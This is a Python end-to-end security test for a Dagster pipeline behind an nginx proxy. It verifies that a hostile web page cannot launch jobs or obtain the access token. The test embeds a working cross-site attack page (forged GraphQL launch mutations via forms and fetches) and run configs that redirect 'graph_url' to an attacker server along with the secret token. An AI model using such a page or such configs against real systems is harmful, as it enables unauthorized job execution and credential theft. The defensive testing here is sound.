"""A real browser with a page of another site: it gets no token; the proxy of the docs blocks it."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from capi_assets.commands.demo.workspace import free_port
from capi_assets.hours import HOUR, floor_hour, hour_key
from capi_assets.sandbox.reports import totals
from capi_assets.sandbox.run import SandboxServer
from tests.helpers.browser import chromium, open_page
from tests.helpers.processes import running

pytestmark = pytest.mark.e2e
PROJECT = Path(__file__).parents[2]
TOKEN, DATASET = "EAAtokenThatNoPageMaySee", "1234567890123456"
_LAUNCH = "mutation L($p: ExecutionParams!) { launchRun(executionParams: $p) { __typename } }"
# Forms need no permission of the other site; nor do fetches whose response the page cannot read.
_PAGE = """<!DOCTYPE html><title>Nice pictures</title><script>
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
function form(url, fields, enctype) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"),
    { method: "POST", action: url, target: frame.name, enctype });
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}
async function attempt(url, options) {
  try { return await (await fetch(url, options)).text(); } catch (error) { return String(error); }
}
addEventListener("load", async () => {
  const read = [];
  for (const base of $dagster) for (const variables of $launches) {
    const fields = { query: $query, variables: JSON.stringify(variables) };
    const text = JSON.stringify({ query: $query, variables });
    const link = base + "/graphql?" + new URLSearchParams(fields);
    form(base + "/graphql", fields, "application/x-www-form-urlencoded");
    read.push(await attempt(base + "/graphql", { method: "POST", mode: "no-cors",
      credentials: "include", body: new URLSearchParams(fields) }));
    read.push(await attempt(base + "/graphql", { method: "POST", body: text,
      headers: { "Content-Type": "application/json" } }));
    read.push(await attempt(link, { mode: "no-cors", credentials: "include" }));
    read.push(await attempt(base + "/graphql", { method: "POST", body: new URLSearchParams({
      query: "{ runsOrError { ... on Runs { results { runConfigYaml } } } }" }) }));
    document.body.append(Object.assign(new Image(), { src: link }));
  }
  form($sandbox + "/v26.0/1/events", { data: "[]", access_token: "stolen" },
    "application/x-www-form-urlencoded");
  read.push(await attempt($sandbox + "/_sandbox/faults", { method: "PUT",
    body: JSON.stringify({ kind: "throttled" }) }));
  read.push(await attempt($sandbox + "/_sandbox/events?payloads=1"));
  await wait(3000);
  await fetch("/done", { method: "POST", body: JSON.stringify(read) });
});
</script><body></body>"""


class Hostile:
    """A server of another site; `page` is its page, `seen` everything that it was sent."""

    def __init__(self) -> None:
        self.page, self.seen, self.done = "", list[str](), threading.Event()
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                hostile.seen.append(f"{self.requestline}\n{self.headers}\n{body}")
                answer = hostile.page.encode() if self.path == "/" else b"{}"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)
                if self.path == "/done":
                    hostile.done.set()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def graphql(url: str, query: str, **options: Any) -> Any:
    answer = requests.post(f"{url}/graphql", json={"query": query}, timeout=30, **options)
    assert answer.status_code == 200, answer.status_code
    return answer.json()["data"]


def runs(url: str) -> list[dict[str, Any]]:
    query = "{ runsOrError { ... on Runs { results { status runConfigYaml } } } }"
    results: list[dict[str, Any]] = graphql(url, query)["runsOrError"]["results"]
    return results


def nginx_config(folder: Path, dagster: int, ports: tuple[int, int]) -> str:
    """The configuration of docs/security.md twice, without TLS: at the first port as it is, at the
    second for a person who is logged in, so that no missing login blocks the page."""
    page = (PROJECT / "docs" / "security.md").read_text(encoding="utf-8")
    [example] = re.findall(r"```nginx\n(.*?)```", page, re.DOTALL)
    maps, server = example.split("server {", 1)
    assert "auth_basic_user_file" in server
    origins = "".join(f'"http://127.0.0.1:{port}" 0; ' for port in ports)
    maps = maps.replace('"https://dagster.shop.example" 0; ', origins)
    servers = []
    for port, hidden in zip(ports, ("ssl_certificate", "ssl_certificate|auth_basic"), strict=True):
        lines = [line for line in server.splitlines() if not re.search(hidden, line)]
        text = "\n".join(lines).replace("listen 443 ssl", f"listen 127.0.0.1:{port}")
        text = text.replace("/etc/nginx/dagster.users", str(folder / "users"))
        servers.append("server {" + text.replace("127.0.0.1:3000", f"127.0.0.1:{dagster}"))
    (folder / "users").write_text("ana:{PLAIN}word\n")
    user = "user root;" if os.getuid() == 0 else ""
    temporary = " ".join(
        f"{name}_temp_path {folder}/{name};"
        for name in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    return (
        f"{user} daemon off; pid {folder}/nginx.pid; error_log {folder}/error.log; events {{}}\n"
        f"http {{ access_log {folder}/access.log; {temporary}\n{maps}\n{''.join(servers)}\n}}\n"
    )


def test_a_hostile_page_gets_no_token_and_the_proxy_blocks_it(tmp_path: Path) -> None:
    nginx = shutil.which("nginx", path="/usr/sbin:/usr/bin")
    if nginx is None:
        pytest.skip("the test needs Debian's package nginx-light")
    now = datetime.now(UTC)
    hour = floor_hour(now) - 2 * HOUR
    folder = tmp_path / "landing" / "orders" / f"{hour:%Y-%m-%d}" / f"{hour:%H}"
    folder.mkdir(parents=True)
    order = {
        "order_id": "o1", "occurred_at": (hour + timedelta(minutes=5)).isoformat(),
        "value": 10, "currency": "EUR", "email": "buyer@example.com", "action_source": "email",
    }  # fmt: skip
    (folder / "orders.jsonl").write_text(json.dumps(order) + "\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / "dagster.yaml").write_text(
        "telemetry: {enabled: false}\nrun_coordinator: {module: dagster._core.run_coordinator,"
        " class: DefaultRunCoordinator}\n"  # the default one needs the daemon
    )
    workspace = tmp_path / "workspace.yaml"
    workspace.write_text(
        "load_from: [{python_module: {module_name: capi_assets.definitions,"
        " location_name: capi_assets}}]\n"
    )
    hostile, port, proxies = Hostile(), free_port(), (free_port(), free_port())
    dagster = f"http://127.0.0.1:{port}"
    open_proxy, proxy = f"http://127.0.0.1:{proxies[1]}", f"http://127.0.0.1:{proxies[0]}"
    (tmp_path / "nginx.conf").write_text(nginx_config(tmp_path, port, proxies))
    job = {
        "repositoryLocationName": "capi_assets",
        "repositoryName": "__repository__",
        "jobName": "deliver_hour",
    }
    tags = [{"key": "dagster/partition", "value": hour_key(hour)}]

    def launch(config: dict[str, Any]) -> dict[str, Any]:
        return {
            "p": {
                "selector": job,
                "runConfigData": json.dumps(config),
                "executionMetadata": {"tags": tags},
            }
        }

    evil = f"http://localhost:{hostile.port}"
    secret = {"env": "CAPI_ACCESS_TOKEN"}
    redirects: list[dict[str, Any]] = [
        {"resources": {"meta": {"config": {"graph_url": evil, "access_token": secret}}}},
        {"resources": {"settings": {"config": {"graph_url": evil}}}},
        {"ops": {"delivery_results": {"config": {"graph_url": evil}}}},
        {"resources": {"capi_clock": {"config": {"at": secret}}}},
    ]
    with SandboxServer(tokens=[TOKEN], datasets=[DATASET]) as meta:
        environment = {
            **{k: v for k, v in os.environ.items() if not k.startswith(("CAPI_", "DAGSTER_"))},
            "DAGSTER_HOME": str(home),
            "CAPI_LANDING": str(tmp_path / "landing"),
            "CAPI_LAKE": str(tmp_path / "lake"),
            "CAPI_LEDGER_URL": f"sqlite:///{tmp_path}/ledger.db",
            "CAPI_DATASET_ID": DATASET,
            "CAPI_ACCESS_TOKEN": TOKEN,
            "CAPI_GRAPH_URL": meta.url,
            "CAPI_START_DATE": (hour - timedelta(days=1)).isoformat(),
        }
        webserver = [
            sys.executable, "-m", "dagster_webserver", "-h", "127.0.0.1", "-p", str(port),
            "-w", str(workspace),
        ]  # fmt: skip

        def visit(*targets: str) -> None:
            """Opens the hostile page in the browser and waits until it has tried everything."""
            hostile.done.clear()
            for name, value in {
                "$dagster": targets, "$sandbox": meta.url, "$query": _LAUNCH,
                "$launches": [launch(config) for config in ({}, *redirects)],
            }.items():  # fmt: skip
                hostile.page = (hostile.page or _PAGE).replace(name, json.dumps(value))
            page = open_page(browser)
            page.goto(evil)
            deadline = time.monotonic() + 180
            while not hostile.done.is_set():
                assert time.monotonic() < deadline
                page.wait_for_timeout(300)
            page.close()
            hostile.page = ""

        with (
            chromium() as browser,
            (tmp_path / "dagster.log").open("wb") as dagster_log,
            running(
                webserver,
                lambda: len(graphql(dagster, "{ assetNodes { id } }")["assetNodes"]) > 0,
                cwd=tmp_path,
                env=environment,
                stdout=dagster_log,
                stderr=subprocess.STDOUT,
            ),
            running(
                [nginx, "-p", tmp_path, "-c", tmp_path / "nginx.conf"],
                lambda: requests.get(proxy, timeout=5).status_code == 401,
            ),
        ):
            # People who may: with a login, from the proxy's own pages.
            own = {"Origin": proxy}
            login = ("ana", "word")
            assert graphql(proxy, "{ version }", auth=login, headers=own)["version"]

            visit(open_proxy, proxy)
            log = (tmp_path / "access.log").read_text(encoding="utf-8")
            hits = re.findall(r'"(\w+) /graphql[^"]*" (\d{3})', log)
            foreign = [hit for hit in hits if hit != ("POST", "200")]
            assert {("POST", "403"), ("GET", "405")} <= set(foreign)
            assert len(hits) - len(foreign) == 1  # the one with a login, above
            assert runs(dagster) == []

            visit(dagster)
            launched = runs(dagster)
            # Without the proxy the page does launch runs; what it launches is what a launch may be.
            assert launched
            deadline = time.monotonic() + 180
            while {run["status"] for run in runs(dagster)} - {"SUCCESS", "FAILURE"}:
                assert time.monotonic() < deadline
                time.sleep(1)
            runs_ended = runs(dagster)
        assert not any("graph_url" in run["runConfigYaml"] for run in launched)
        # Those with the token as the clock's time fail, and do not show it.
        assert "SUCCESS" in {run["status"] for run in runs_ended}
        assert totals(meta.inbox)["events"] == {
            "received": 1, "accepted": 1, "duplicates": 0, "doubled": 0,
        }  # fmt: skip
        assert meta.state.faults.all() == []
    assert len(hostile.seen) >= 4
    assert not any(TOKEN in request for request in hostile.seen)
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert len(written) > 10
    assert not [path for path in written if TOKEN.encode() in path.read_bytes()]
